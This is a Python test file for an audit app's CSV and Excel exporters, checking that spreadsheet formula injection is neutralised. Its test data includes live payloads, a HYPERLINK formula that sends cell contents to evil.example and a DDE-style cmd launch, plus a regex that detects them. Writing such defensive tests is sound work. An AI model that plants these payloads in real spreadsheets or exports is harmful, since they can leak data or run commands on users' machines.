"""Formula injection: every CSV the product writes, read by Excel set to either separator,
shows no cell that starts a formula, and quoted fields keep titles whole; no workbook or
review pack cell holds a formula or formula-like text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert

from audit_app.cli import main
from audit_app.core import schema as s
from audit_app.core.project import Project
from exporters.csv_export import export_csv
from exporters.csv_writer import csv_field
from exporters.options import ExportOptions
from exporters.review_packs import export_review_packs
from exporters.safe import safe_csv_text, safe_text, unsafe_text
from exporters.workbook import export_workbook
from tests.exporters.helpers import BASE, Sample, build_sample

HOSTILE = {
    "plain": "=1+2",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")',
    "dutch_split": "Verlof;=1+2",
    "english_split": "Verlof,=1+2",
    "line_feed": "\n=1+2",
    "line_break_inside": "Verlof\n=1+2",
    "spaces": "  \t @SUM(1+1)*cmd|' /C calc'!A0",
    "nbsp": "\u00a0+31 20 123",
    "quote_then_formula": 'Titel; "=1+2',
    "tab": "\tTab",
    "cr": "\rCR",
    "full_width": "\uff1d1+2",
}
# In a sheet cell nothing splits: only these start a formula there.
MID_CELL = ("dutch_split", "english_split", "line_break_inside", "quote_then_formula")
LEADING = {k: v for k, v in HOSTILE.items() if k not in MID_CELL}
_FORMULA = re.compile(r"[\s\"\u200b-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def _pessimistic_cells(text: str) -> list[str]:
    """Cells as the least forgiving reader sees them: quotes ignored, every line break a new
    row, both "," and ";" separators."""
    return [cell for line in re.split(r"\r\n|\r|\n", text) for cell in re.split(r"[,;]", line)]


def assert_no_formula_cells(text: str) -> None:
    for cell in _pessimistic_cells(text):
        if _NUMBER.fullmatch(cell.strip()):
            continue  # a real number, written as a number
        assert not _FORMULA.match(cell), repr(cell)
        assert not cell.startswith(("\t", "\r")), repr(cell)


@pytest.mark.parametrize("raw", list(HOSTILE.values()), ids=list(HOSTILE))
def test_every_hostile_value_is_neutralised_in_a_csv_field(raw: str) -> None:
    for sep in (",", ";"):
        field = csv_field(raw, decimal_comma=sep == ";")
        assert_no_formula_cells(field)
        if any(ch in raw for ch in ',;"\n\r\t'):
            assert field.startswith('"') and field.endswith('"'), field


@pytest.mark.parametrize("raw", list(LEADING.values()), ids=list(LEADING))
def test_sheet_cells_are_neutralised_after_leading_whitespace_and_restored(raw: str) -> None:
    safe = safe_text(raw)
    assert safe.startswith("'")
    assert unsafe_text(safe) == raw


def test_numbers_are_written_as_numbers() -> None:
    assert csv_field(-5) == "-5"
    assert csv_field(62.5) == "62.5"
    assert csv_field(62.5, decimal_comma=True) == '"62,5"'
    assert csv_field("-5") == "'-5"  # text that begins with "-" is neutralised
    assert safe_csv_text("Verlof;=1+2") == "Verlof;'=1+2"
    assert safe_csv_text("€ 5,- per maand") == "€ 5,'- per maand"


def _hostile_project(project: Project) -> Sample:
    sample = build_sample(project)
    with project.transaction() as conn:
        for i, (key, title) in enumerate(HOSTILE.items()):
            page_id = conn.execute(
                insert(s.pages).values(
                    url=f"{BASE}/hostile/{i}.html",
                    title=title,
                    section=title,
                    kind="page",
                    state="done",
                    status=200,
                )
            ).inserted_primary_key[0]
            sample.pages[key] = int(page_id)
            conn.execute(insert(s.decisions).values(page_id=page_id, decision="keep", note=title))
    return sample


def _read(path: Path) -> str:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return raw[3:].decode("utf-8")


@pytest.mark.parametrize(("semicolon", "sep"), [(False, ","), (True, ";")])
def test_plan_csv_is_safe_for_excel_with_either_separator(
    project: Project, tmp_path: Path, semicolon: bool, sep: str
) -> None:
    sample = _hostile_project(project)
    out = tmp_path / "plan.csv"
    export_csv(project, out, options=ExportOptions(semicolon=semicolon))
    text = _read(out)
    assert_no_formula_cells(text)
    rows = {int(r["ID"]): r for r in csv.DictReader(io.StringIO(text), delimiter=sep)}
    for key, raw in HOSTILE.items():
        row = rows[sample.pages[key]]
        assert row["Titel"] == safe_csv_text(raw)
        assert row["Notities"] == safe_csv_text(raw)
    assert rows[sample.pages["dutch_split"]]["Titel"] == "Verlof;'=1+2"  # one cell, not two
    assert rows[sample.pages["english_split"]]["Titel"] == "Verlof,'=1+2"
    assert rows[sample.pages["verlof"]]["Leesbaarheid"] == ("62,5" if semicolon else "62.5")


@pytest.mark.parametrize("semicolon", [False, True])
def test_inventory_command_csv_is_safe(
    project: Project, tmp_path: Path, semicolon: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    _hostile_project(project)
    project.close()
    out = tmp_path / "inventaris.csv"
    args = ["inventory", str(project.path), "--format", "csv", "-o", str(out)]
    assert main(args + (["--semicolon"] if semicolon else [])) == 0
    text = _read(out)
    assert_no_formula_cells(text)
    rows = {
        int(r["url"].rsplit("/", 1)[-1].removesuffix(".html")): r
        for r in csv.DictReader(io.StringIO(text), delimiter=";" if semicolon else ",")
        if "/hostile/" in r["url"]
    }
    for i, raw in enumerate(HOSTILE.values()):
        assert rows[i]["title"] == safe_csv_text(raw)
    assert len(rows) == len(HOSTILE)

    capsys.readouterr()
    assert main(["inventory", str(project.path), "--format", "csv"]) == 0
    shown = capsys.readouterr().out
    assert shown.startswith("\ufeffurl,")
    assert_no_formula_cells(shown[1:])


def test_workbook_and_review_packs_hold_no_formula_cells(project: Project, tmp_path: Path) -> None:
    _hostile_project(project)
    export_workbook(project, tmp_path / "plan.xlsx", options=ExportOptions(per_reviewer=True))
    packs = export_review_packs(project, tmp_path / "packs")
    for path in [tmp_path / "plan.xlsx", *(p.path for p in packs)]:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not _FORMULA.match(cell.value), (ws.title, cell.value)
